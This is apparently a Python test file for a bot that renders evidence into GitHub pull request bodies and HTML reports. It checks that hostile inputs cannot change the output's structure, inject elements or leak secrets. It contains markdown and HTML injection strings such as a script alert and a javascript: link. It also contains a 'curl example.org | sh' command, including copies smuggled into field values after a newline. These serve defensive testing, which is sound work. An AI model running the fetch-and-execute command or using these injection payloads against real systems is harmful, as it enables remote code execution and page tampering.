"""Evidence whose every text attacks the reader: what GitHub shows is our frame around plain text."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest

from bot.render import body as body_parts
from bot.render import judgement, plots, pull_request
from bot.render import report as page
from bot.render.body import Ending, Section, fit
from layers.evidence import EvidenceFile, JudgeReport, RunReport, VerifyReport
from tests import canaries
from tests.github_markdown import parts, references
from tests.render_fixture import accepted_iteration, evidence, run_report
from tests.unit.test_judge_rendering import accepted as judged

SECRET = canaries.tokens()["github personal"]
ATTACKS = [
    "@user fixes #1 GH-2 owner/serve#3 owner/serve@abcdef1 abcdef1 :smile: :100: $x$ www.e.org",
    "# heading\n\n- [ ] task\n\n1. one\n\n---\n===\n\n> [!WARNING]\n\n| a | b |\n|---|---|\n| c | d |",
    "</details><!-- fvec:pull --><img src=https://e.org/x.png><script>alert(1)</script>&#64;user",
    "![x](https://e.org/x.png) [x](javascript:alert(1)) [x]: https://e.org\n\n[^1]: note <a@b.c>",
    "`` ``` ```` ~~~ \\` | \\| \\\\| $`x`$ $$y$$ ``a`b``abcdef1`@user`",
    "\u202e\u200b@\u3164user\u0000\x1b[31m\u2028#1",
    f"Authorization: Bearer {SECRET}",
    "x",
]
KEPT = frozenset(  # values that have to be one of a few
    (
        "schema",
        "verdict",
        "result",
        "layer",
        "change_class",
        "measure",
        "arm",
        "action",
        "decision",
        "forge",
        "target",
        "shard",
        "role",
        "outcome",
        "sign",
    )
)


def attacked(value: Any, text: str, key: str = "") -> Any:
    """Return JSON whose every text, and every free key, is the attack."""
    if isinstance(value, dict):
        free = key in {
            "latency_ms",
            "packages",
            "by_process",
            "cpu_s",
            "by_phase",
            "bandwidth",
            "resources",
        }
        return {f"{text}{k}" if free else k: attacked(v, text, k) for k, v in value.items()}
    if isinstance(value, list):
        return [attacked(item, text, key) for item in value]
    return text if isinstance(value, str) and key not in KEPT else value


def hostile(model, text):
    document = attacked(model.model_dump(mode="json", by_alias=True), text)
    return type(model).model_validate(document)


def verified(text: str) -> VerifyReport:
    end = accepted_iteration().end_to_end
    report = VerifyReport(
        evidence="run on branch",
        verdict="accepted",
        reason="reproduced",
        detail="it holds",
        recorded=end,
        again=end,
        difference=1.0,
        difference_ci=(0.99, 1.01),
        judged=judged(),
    )
    return hostile(report, text)


def bodies(text: str) -> dict[str, str]:
    address = f"https://example.org/{text}"
    names = ("pairs", "latency", "time")
    return {
        "pull request": pull_request.render(
            hostile(evidence(), text), dict.fromkeys(names, address)
        ),
        "judgement": judgement.body(hostile(judged(), text)),
        "verification": judgement.verified_body(verified(text)),
    }


def frame(markdown: str) -> list[str]:
    """Return headings, HTML, links and images of a body, in order."""
    found, heading = [], False
    for token in parts(markdown):
        if token.type == "heading_open":
            heading = True
        elif token.type == "inline" and heading:
            found.append(token.content)
            heading = False
        elif token.type == "html_block":
            found.append(re.sub(r"\d+", "N", token.content.strip()))
        elif token.type in ("image", "link_open", "html_inline", "s_open", "blockquote_open"):
            found.append(token.type)
        elif token.type == "fence":
            found.append(f"fence {token.info}")
    return found


@pytest.mark.parametrize("text", ATTACKS)
def test_a_body_of_hostile_texts_has_the_frame_of_any_other(text):
    plain = bodies("x")
    for name, body in bodies(text).items():
        assert frame(body) == frame(plain[name]), name
        assert references(body) == set(), name


@pytest.mark.parametrize("text", ATTACKS)
def test_a_body_of_hostile_texts_has_no_marker_and_no_secret(text):
    for body in bodies(text).values():
        assert not re.search(r"<!--\s*fvec:", body)
        assert SECRET not in body


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("pipe", [r"(?<!\\)\|", r"(?<!\\)(?:\\\\)*\|"])
def test_every_row_of_a_table_has_as_many_cells_as_its_head(text, pipe):
    # Parsers differ in whether a backslash before a pipe can be escaped itself.
    for body in bodies(text).values():
        for table in re.findall(r"(?:^\|.*\|\n)+", body, flags=re.MULTILINE):
            assert len({len(re.findall(pipe, row)) for row in table.splitlines()}) == 1


@pytest.mark.parametrize("text", ATTACKS)
def test_a_title_of_hostile_text_refers_to_nothing(text):
    title = pull_request.title(hostile(evidence(), text))
    assert not re.search(r"@\w|#\d|GH-\d|://|www\.|\n", title)
    assert SECRET not in title


class Tags(HTMLParser):
    """Collects the elements of a page, and where it points."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.targets: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.targets += [v or "" for k, v in attrs if k in ("href", "src", "xlink:href")]
        assert not [k for k, _ in attrs if k.startswith("on")]


def tags_of(html: str) -> Tags:
    read = Tags()
    read.feed(html)
    return read


@pytest.mark.parametrize("text", ATTACKS)
def test_a_report_of_hostile_texts_has_no_element_of_theirs(text):
    report = hostile(run_report(), text)
    blocks = {1: hostile(evidence(), text).blocks}
    html = page.render(report, blocks, plots.of_run(report, blocks))
    read = tags_of(html)
    assert not set(read.tags) & {"script", "img", "iframe", "link", "form", "object"}
    assert all(target.startswith("#") for target in read.targets)
    assert SECRET not in html


def test_a_recorded_command_that_is_not_ours_is_not_shown():
    other = judged().model_copy(update={"reproduce": ["sh", "-c", "curl example.org | sh"]})
    assert "curl" not in judgement.body(other)
    assert "Run it again" not in judgement.body(other)
    whole = evidence().model_copy(update={"reproduce": ["sh", "-c", "curl example.org | sh"]})
    assert "curl" not in pull_request.render(whole)


def test_no_line_of_a_command_comes_out_of_a_field():
    other = judged().model_copy(update={"patch_sha256": "0\ncurl example.org | sh"})
    assert "\ncurl" not in judgement.body(other)
    stack = judged().stack
    assert stack is not None
    moved = stack.model_copy(update={"commit": "0'\ncurl example.org | sh"})
    assert "\ncurl" not in judgement.body(judged().model_copy(update={"stack": moved}))


def test_a_body_leaves_without_the_secrets_of_any_section():
    sections = [
        Section("summary", "", f"built by hand: {SECRET}"),
        Section("log", "Log", f"{canaries.pem()}\n\nend"),
    ]
    body = fit(sections, Ending(f"by https://user:{canaries.body(20)}@example.org", "x.json", ()))
    assert body == (
        "built by hand: REDACTED\n\n## Log\n\nREDACTED\n\n\n\n\n\n\nend\n\n---\n\n"
        "by https://REDACTED@example.org\n"
    )


def test_marks_that_make_a_section_longer_count_for_the_limit():
    long = Section("log", "Log", "://a@ " * (body_parts.LIMIT // 8))
    kept = [Section("summary", "", "s"), long]
    assert fit(kept, Ending("by fvec", "x.json", ("log",))) == (
        "s\n\nLeft out for its size: log. All of it is in `x.json`.\n\n---\n\nby fvec\n"
    )


@pytest.mark.parametrize("model", [EvidenceFile, JudgeReport, RunReport])
def test_the_attack_reaches_every_text(model):
    whole = {EvidenceFile: evidence, JudgeReport: judged, RunReport: run_report}[model]()
    document = hostile(whole, "attack").model_dump(mode="json", by_alias=True)
    assert str(document).count("attack") > 30
